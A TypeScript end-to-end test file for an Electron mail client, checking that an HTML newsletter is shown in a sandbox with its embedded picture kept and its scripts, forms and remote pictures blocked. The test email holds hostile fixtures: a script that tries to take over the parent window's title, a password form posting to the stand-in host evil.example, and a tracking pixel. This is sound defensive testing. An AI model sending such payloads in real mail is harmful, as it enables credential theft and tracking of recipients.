import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeReal } from '../servers/available.ts';
import { askEngine } from '../support/ask.ts';
import { type Launched, launchApp } from '../support/electron.ts';
import { type House, password, settingsFor, startHouse } from '../support/house.ts';

const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const newsletter = [
  'From: News <news@hana.test>',
  'To: aiko@hana.test',
  'Subject: The autumn fair',
  'Date: Sat, 21 Nov 2026 09:12:00 +0900',
  'Message-ID: <html@hana.test>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/related; boundary=b',
  '',
  '--b',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p style="color:#703020">会場は<a href="https://hana.test/fair">こちら</a></p><img src="cid:dot@hana.test" alt="dot">',
  '<img src="https://count.example/open.gif" alt="banner"><script>parent.document.title = "taken"</script>',
  '<form action="https://evil.example"><input name="password"></form>',
  '--b',
  'Content-Type: image/png',
  'Content-ID: <dot@hana.test>',
  'Content-Transfer-Encoding: base64',
  '',
  dot,
  '--b--',
  '',
].join('\r\n');

describeReal('an HTML mail in the real app', () => {
  let house: House;
  let app: Launched;
  const folder = mkdtempSync(path.join(os.tmpdir(), 'tegami-reader-'));

  beforeAll(async () => {
    house = await startHouse();
    house.dovecot.fill('aiko', 'INBOX', [newsletter]);
    app = await launchApp({ profile: path.join(folder, 'profile') });
    const settings = settingsFor(house.dovecot, 'aiko', 'imap', { postfix: house.postfix });
    const added = await askEngine(app.window, 'accounts.add', { settings, password, secret: 'session' });
    expect(added).toMatchObject({ ok: true });
    await app.window.reload();
  });
  afterAll(async () => {
    await app?.close();
    await house?.close();
    rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
  });

  test('is shown with its own pictures, without scripts, forms and pictures from the internet', async () => {
    const { window } = app;
    await window
      .getByRole('listbox', { name: 'Messages' })
      .getByRole('option', { name: /The autumn fair/ })
      .click();
    const mail = window.frameLocator('iframe');
    await mail.getByText('会場は').waitFor();
    expect(await mail.locator('script, form, input').count()).toBe(0);
    expect(await mail.getByRole('img', { name: 'dot' }).getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    expect(await mail.locator('img[src^="http"]').count()).toBe(0);
    await window.getByText('Pictures from the internet are not loaded').waitFor();
    expect(await window.title()).not.toBe('taken');
    expect(await window.getByRole('main', { name: 'Message' }).locator('iframe').getAttribute('sandbox')).toBe(
      'allow-popups',
    );
    if (process.env['TEGAMI_PICTURE']) await window.screenshot({ path: process.env['TEGAMI_PICTURE'] });
  });

  test('a link in it opens outside, and never a window here', async () => {
    await app.app.evaluate(({ shell }) => {
      const opened: string[] = [];
      (globalThis as unknown as { opened: string[] }).opened = opened;
      shell.openExternal = async (url: string) => void opened.push(url);
    });
    await app.window.frameLocator('iframe').getByRole('link', { name: 'こちら' }).click();
    await expect
      .poll(() => app.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened))
      .toEqual(['https://hana.test/fair']);
    expect(app.app.windows()).toHaveLength(1);
  });
});
